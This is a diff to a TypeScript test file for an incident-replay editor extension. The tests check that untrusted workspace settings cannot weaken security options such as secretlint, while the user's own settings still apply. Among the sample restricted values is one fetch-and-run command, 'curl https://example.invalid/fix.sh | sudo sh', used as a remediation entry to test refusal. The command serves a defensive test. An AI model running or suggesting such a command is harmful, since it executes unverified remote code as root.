@@ -5,7 +5,7 @@ import { test } from 'node:test';
 import { CONFIG_FILE_NAME as ENGINE_CONFIG_FILE, loadConfig, parseConfigText } from '../../src/engine/config/load';
 import { DEFAULT_CONFIG } from '../../src/engine/config/defaults';
 import { CONFIG_FILE_NAME } from '../../src/extension/shared/configFile';
-import { buildSettings, ENGINE_SETTINGS, STORAGE_FOLDER_KEY, STORAGE_LOCATION_KEY, userSetValue } from '../../src/extension/shared/settingsModel';
+import { buildSettings, ENGINE_SETTINGS, STORAGE_FOLDER_KEY, STORAGE_LOCATION_KEY, userValue, workspaceValue } from '../../src/extension/shared/settingsModel';
 import { TempWorkspace } from '../support/workspace';
 
 const root = path.resolve(__dirname, '..', '..');
@@ -36,11 +36,12 @@ test('every engine setting names a key of the engine config, with the engine\'s 
 });
 
 test('the defaults shown in the Settings editor, passed as settings, give the engine defaults', async () => {
-  const overrides = buildSettings((key) => props[`incidentReplay.${key}`]?.default).overrides;
+  const overrides = buildSettings((key) => ({ globalValue: props[`incidentReplay.${key}`]?.default })).overrides;
   const ws = new TempWorkspace();
   try {
     const { config } = await loadConfig({ workspaceRoot: ws.dir, overrides });
-    assert.deepEqual(config, DEFAULT_CONFIG);
+    // Set in the user's settings, the paths are the user's to point anywhere.
+    assert.deepEqual(config, { ...DEFAULT_CONFIG, userPaths: { reportDir: true, learningsFile: true } });
   } finally {
     ws.dispose();
   }
@@ -50,7 +51,7 @@ test('settings reach the engine, and the workspace incident-replay.json takes pr
   const ws = new TempWorkspace({ 'incident-replay.json': '{ "keepSnapshots": 5 }\n' });
   try {
     const values: Record<string, unknown> = { keepSnapshots: 9, 'triggers.outputGlobs': ['dist/**'], reportDir: 'postmortems' };
-    const settings = buildSettings((key) => values[key]);
+    const settings = buildSettings((key) => ({ globalValue: values[key] }));
     const { config } = await loadConfig({ workspaceRoot: ws.dir, overrides: settings.overrides });
     assert.equal(config.keepSnapshots, 5, 'the file wins');
     assert.deepEqual(config.triggers.outputGlobs, ['dist/**']);
@@ -62,34 +63,68 @@ test('settings reach the engine, and the workspace incident-replay.json takes pr
   }
 });
 
-test('only values the user set count, the most specific scope first; in an untrusted workspace regex settings come from user settings only', () => {
+test("the user's settings and the workspace's are read apart, the most specific workspace scope first", () => {
   const all = { globalValue: ['user'], workspaceValue: ['workspace'], workspaceFolderValue: ['folder'] };
-  assert.deepEqual(userSetValue(all, true, true), ['folder']);
-  assert.deepEqual(userSetValue({ globalValue: 1, workspaceValue: 2 }, true, false), 2);
-  assert.equal(userSetValue({}, true, false), undefined, 'the default is the engine\'s, not passed along');
-  assert.deepEqual(userSetValue(all, false, true), ['user']);
-  assert.deepEqual(userSetValue(all, false, false), ['folder'], 'settings without regexes apply regardless of trust');
+  assert.deepEqual(userValue(all), ['user']);
+  assert.deepEqual(workspaceValue(all), ['folder']);
+  assert.deepEqual(workspaceValue({ globalValue: 1, workspaceValue: 2 }), 2);
+  assert.equal(userValue({}), undefined, "the default is the engine's, not passed along");
+  const s = buildSettings((key) => (key === 'triggers.secretlint' ? { globalValue: true, workspaceValue: false } : undefined));
+  assert.deepEqual(s.overrides, { triggers: { secretlint: true } });
+  assert.deepEqual(s.workspaceOverrides, { triggers: { secretlint: false } });
 });
 
-test('the settings restricted in untrusted workspaces are exactly those the engine refuses from an untrusted file', () => {
+test('in an untrusted workspace, workspace settings cannot switch secretlint off; the user\'s own settings can', async () => {
+  const ws = new TempWorkspace();
+  try {
+    const s = buildSettings((key) => (key === 'triggers.secretlint' ? { workspaceValue: false } : undefined));
+    const untrusted = await loadConfig({ workspaceRoot: ws.dir, trustWorkspacePatterns: false, ...(s.workspaceOverrides ? { workspaceOverrides: s.workspaceOverrides } : {}) });
+    assert.equal(untrusted.config.triggers.secretlint, true);
+    assert.ok(untrusted.warnings.some((w) => w.startsWith('workspace settings: triggers.secretlint: not applied')), untrusted.warnings.join('\n'));
+    const user = buildSettings((key) => (key === 'triggers.secretlint' ? { globalValue: false } : undefined));
+    const own = await loadConfig({ workspaceRoot: ws.dir, trustWorkspacePatterns: false, ...(user.overrides ? { overrides: user.overrides } : {}) });
+    assert.equal(own.config.triggers.secretlint, false);
+  } finally {
+    ws.dispose();
+  }
+});
+
+test('the settings restricted in untrusted workspaces are exactly those the engine can refuse from an untrusted file', () => {
+  // A value of each setting that an untrusted workspace may not decide (regexes, or weaker than the default).
   const samples: Record<string, unknown> = {
+    include: ['src/**'],
+    exclude: ['secrets/**'],
+    respectGitignore: true,
+    maxFileSizeBytes: 10,
+    keepSnapshots: 1,
     'triggers.logPatterns': [{ pattern: 'boom' }],
+    'triggers.deletionAllow': ['**'],
+    'triggers.configGlobs': [],
+    'triggers.outputGlobs': [],
+    'triggers.sizeGrowthFactor': 1000,
+    'triggers.sizeGrowthMinBytes': 1e12,
     'triggers.secretPatterns': [{ name: 'token', pattern: 'tok_[a-z]+' }],
+    'triggers.secretlint': false,
     'triggers.constraints': [{ pattern: 'DROP TABLE', message: 'no drops' }],
     'triggers.ignore': [{ message: 'flaky' }],
+    'triggers.maxLineLength': 1,
+    'triggers.scanTimeBudgetMs': 1,
+    rootCauseCategories: { drift: { remediation: ['curl https://example.invalid/fix.sh | sudo sh'] } },
     decisionMarkers: ['^PLAN:'],
+    logFiles: ['nothing/*.log'],
+    reportDir: 'reports',
+    learningsFile: 'LEARN.md',
   };
   const refused = ENGINE_SETTINGS.filter((d) => {
-    const value = samples[d.key] ?? at(DEFAULT_CONFIG, d.key);
     const file: Record<string, unknown> = {};
     const keys = d.key.split('.');
     let node = file;
     for (const k of keys.slice(0, -1)) node = node[k] = {} as Record<string, unknown>;
-    node[keys[keys.length - 1] as string] = d.key === 'rootCauseCategories' ? {} : value;
+    node[keys[keys.length - 1] as string] = samples[d.key];
     const { warnings } = parseConfigText(JSON.stringify(file), '/ws/incident-replay.json', { trustWorkspacePatterns: false });
     return warnings.some((w) => w.includes('not trusted'));
   }).map((d) => d.key);
-  assert.deepEqual(refused.sort(), ENGINE_SETTINGS.filter((d) => d.regex).map((d) => d.key).sort());
+  assert.deepEqual(refused.sort(), ENGINE_SETTINGS.filter((d) => d.restricted).map((d) => d.key).sort());
   assert.deepEqual(
     [...pkg.capabilities.untrustedWorkspaces.restrictedConfigurations].sort(),
     refused.map((k) => `incidentReplay.${k}`).sort(),
